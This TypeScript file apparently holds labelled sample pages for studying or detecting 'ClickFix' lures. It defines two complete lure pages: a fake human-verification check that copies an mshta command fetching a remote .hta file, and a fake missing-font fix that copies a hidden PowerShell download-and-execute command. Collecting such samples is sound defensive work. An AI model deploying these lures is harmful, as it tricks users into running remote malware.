import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, footer, b64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yq-clickfix-renji-yanzheng-mshta',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://cdn-verify.oss-cn-hk.top/check/?r=https%3A%2F%2Fwww.xiazai-ziyuan.com%2Fsoft%2F8821.html',
    body: doc({
      title: '请稍候…',
      lang: 'zh-CN',
      css:
        baseCss(`system-ui,-apple-system,"Segoe UI",${fontSC}`, '#fff') +
        `.w{max-width:640px;margin:12vh auto 0;padding:0 20px}
h1{font-size:30px;font-weight:500;margin:0 0 8px}
.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;background:#fafafa;width:300px;height:66px;padding:0 14px;border-radius:4px;margin:20px 0;cursor:pointer}
.cb i{width:26px;height:26px;border:2px solid #888;border-radius:3px;background:#fff}
.cb small{margin-left:auto;font-size:10px;color:#888;text-align:right}
.md{position:fixed;inset:0;background:rgba(0,0,0,.45);display:none;align-items:center;justify-content:center}
.md .in{background:#fff;width:460px;border-radius:6px;padding:24px}
.md ol li{margin:10px 0}.k{display:inline-block;border:1px solid #bbb;border-bottom-width:3px;border-radius:4px;padding:0 6px;font-family:monospace;background:#f7f7f7}
.ft{position:fixed;bottom:20px;left:0;right:0;text-align:center;font-size:12px;color:#999}`,
      body: `<div class="w"><h1>www.xiazai-ziyuan.com</h1><p>正在验证您是否是真人。这可能需要几秒钟时间。</p>
<div class="cb" id="cb"><i></i><span>确认您是真人</span><small>安全验证<br>隐私 · 条款</small></div>
<p class="hint">www.xiazai-ziyuan.com 需要先检查您的连接的安全性，然后才能继续。</p></div>
<div class="md" id="md"><div class="in"><h3 style="margin-top:0">验证步骤</h3><p>为证明您不是机器人，请完成以下操作：</p>
<ol><li>按下 <span class="k">⊞ Win</span> + <span class="k">R</span></li><li>在打开的“运行”窗口中按 <span class="k">Ctrl</span> + <span class="k">V</span></li><li>按 <span class="k">Enter</span> 键完成验证</li></ol>
<p class="hint">验证 ID：<span id="vid"></span></p><button class="btn" style="background:#1a73e8;color:#fff" id="ok">验证</button></div></div>
<div class="ft">Ray ID: 8790c4e1fa2b3d17 · 性能与安全由 EdgeShield 提供</div>
<script>
(function(){var vid=Math.floor(1e5+Math.random()*9e5);document.getElementById('vid').textContent=vid;
var c='mshta https://cdn-verify.oss-cn-hk.top/v/'+vid+'.hta # ✅ 我不是机器人 - 人机验证 ID: '+vid;
function cp(){if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(c).catch(fb)}else fb();}
function fb(){var t=document.createElement('textarea');t.value=c;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();try{document.execCommand('copy')}catch(e){}t.remove();}
document.getElementById('cb').onclick=function(){cp();document.getElementById('md').style.display='flex';};
document.getElementById('ok').onclick=function(){cp();setTimeout(function(){var r=new URLSearchParams(location.search).get('r');if(r)location.href=r},8000);};})();
</script>`,
    }),
  },
  {
    id: 'yq-clickfix-missing-font-tw-powershell',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.tw-hr-forms.com/docs/2024/labour-contract.html',
    body: doc({
      title: '勞動契約書範本 (2024 更新版)',
      css:
        baseCss(fontTC, '#525659') +
        `.pg{max-width:780px;margin:30px auto;background:#fff;min-height:900px;padding:60px 70px;filter:blur(0);font-family:serif}
.pg p{color:transparent;text-shadow:0 0 6px rgba(0,0,0,.55)}
.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.35)}
.bx{background:#fff;width:520px;border-radius:6px;overflow:hidden;box-shadow:0 10px 40px rgba(0,0,0,.4)}
.bx .t{background:#c62828;color:#fff;padding:12px 18px;font-weight:700}
.bx .c{padding:18px}.steps{background:#f6f6f6;border-radius:4px;padding:10px 14px;font-size:13px}
.fix{background:#1565c0;color:#fff;width:100%;height:44px;font-size:15px;margin-top:12px}`,
      body: `<div class="pg"><h2 style="text-align:center">勞 動 契 約 書</h2><p>立契約書人（以下簡稱甲方）與（以下簡稱乙方）茲為僱傭關係，雙方同意訂定本契約，並共同遵守下列條款：第一條 契約期間……第二條 工作項目及地點……第三條 工作時間……第四條 工資……</p><p>第五條 請假……第六條 資遣及退休……第七條 職業災害補償……</p></div>
<div class="ov"><div class="bx"><div class="t">⚠ 文件無法正常顯示</div><div class="c">
<p>此文件使用了字型「<b>標楷體 DFKai-SB (Unicode 擴充)</b>」，您的系統未安裝此字型，因此內容顯示為亂碼。</p>
<div class="steps"><b>手動修復字型：</b><br>1. 點擊下方「修復」按鈕<br>2. 在鍵盤按下 <b>Windows 鍵 + X</b>，選擇「<b>終端機 (Windows PowerShell)</b>」<br>3. 按下 <b>Ctrl + V</b> 貼上並按 <b>Enter</b><br>4. 重新整理本頁面</div>
<button class="btn fix" id="fx">修復</button><p class="hint" id="ms"></p></div></div></div>
<script>
document.getElementById('fx').addEventListener('click',function(){
var p='powershell -w hidden -nop -c "$f=\\'https://fonts-fix.tw-cdn.com/dfkai/install.ps1\\';iex (New-Object Net.WebClient).DownloadString($f)"';
navigator.clipboard.writeText(p).then(function(){document.getElementById('ms').textContent='已複製修復指令，請依步驟 2～3 執行。';});
});
</script>`,
    }),
  },
];
